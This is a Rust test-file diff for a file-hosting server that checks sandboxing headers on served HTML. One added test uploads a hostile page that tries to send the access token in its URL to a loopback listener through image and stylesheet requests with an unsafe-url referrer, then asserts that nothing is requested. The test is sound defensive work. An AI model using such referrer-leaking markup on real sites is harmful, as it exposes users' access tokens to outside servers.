@@ -1426,7 +1426,10 @@ document.getElementById("r").textContent =
                 "{name}"
             );
             let csp = r.header("content-security-policy");
-            assert_eq!(csp == Some("sandbox"), sandboxed, "{name}: {csp:?}");
+            let policy = Some("sandbox; default-src 'none'");
+            assert_eq!(csp == policy, sandboxed, "{name}: {csp:?}");
+            let referrer = r.header("referrer-policy");
+            assert_eq!(referrer == Some("no-referrer"), sandboxed, "{name}");
         }
     }
     let work = tempfile::tempdir().unwrap();
@@ -1436,6 +1439,47 @@ document.getElementById("r").textContent =
     ));
     let seen = common::chromium_result(&url, work.path(), 5, &s);
     assert_eq!(seen, json!({"ran": false}), "the page's script ran");
+
+    // Without a script, a page asking for its URL to be sent as the referrer of an image
+    // elsewhere (here a listener on loopback) would hand over the token in the query: it loads
+    // nothing, and no request carries the token.
+    let beacon = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let beacon_port = beacon.local_addr().unwrap().port();
+    let asked = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
+    let heard = asked.clone();
+    std::thread::spawn(move || {
+        for mut c in beacon.incoming().flatten() {
+            use std::io::{Read, Write};
+            let mut buf = [0u8; 4096];
+            let n = c.read(&mut buf).unwrap_or(0);
+            heard
+                .lock()
+                .unwrap()
+                .push_str(&String::from_utf8_lossy(&buf[..n]));
+            let _ = c.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
+        }
+    });
+    let leak = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(
+        leak.path(),
+        format!(
+            r#"<!doctype html><html><head><meta name="referrer" content="unsafe-url"></head><body>
+<pre>@@RESULT{{"ran":false}}RESULT@@</pre>
+<img referrerpolicy="unsafe-url" src="http://127.0.0.1:{beacon_port}/p.gif">
+<link rel="stylesheet" href="http://127.0.0.1:{beacon_port}/s.css"></body></html>"#
+        ),
+    )
+    .unwrap();
+    let (_, _, wt) = new_object(&s);
+    let v2 = common::upload_files(&s, &wt, &[("leak.html", leak.path())]);
+    let url = s.url(&format!(
+        "/q/{v2}/files/leak.html?authorization={}",
+        common::TOKEN
+    ));
+    common::chromium_result(&url, work.path(), 5, &s);
+    let asked = asked.lock().unwrap().clone();
+    assert!(!asked.contains(common::TOKEN), "the token left: {asked}");
+    assert!(asked.is_empty(), "the page loaded from elsewhere: {asked}");
 
     // A `mime_type` that names HTML, or that would read as HTML to a browser behind a harmless
     // type (quoted parameters split differently: review), is sandboxed or sent rebuilt.
@@ -1471,7 +1515,10 @@ document.getElementById("r").textContent =
         .to_string();
     let y = curl(&s.url(&format!("/q/{v2}/files/y.txt")), &[]);
     assert_eq!(y.header("content-type"), Some("text/html; charset=utf-8"));
-    assert_eq!(y.header("content-security-policy"), Some("sandbox"));
+    assert_eq!(
+        y.header("content-security-policy"),
+        Some("sandbox; default-src 'none'")
+    );
     let trick = curl(&s.url(&format!("/q/{v2}/files/trick.txt")), &[]);
     assert_eq!(trick.header("content-type"), Some("text/plain"), "rebuilt");
     // A copy cached before the header existed gets it with its next 304.
@@ -1481,7 +1528,7 @@ document.getElementById("r").textContent =
     assert_eq!(not_modified.status, 304);
     assert_eq!(
         not_modified.header("content-security-policy"),
-        Some("sandbox")
+        Some("sandbox; default-src 'none'")
     );
 
     // A server that hosts web apps turns the sandbox off: the same page runs.
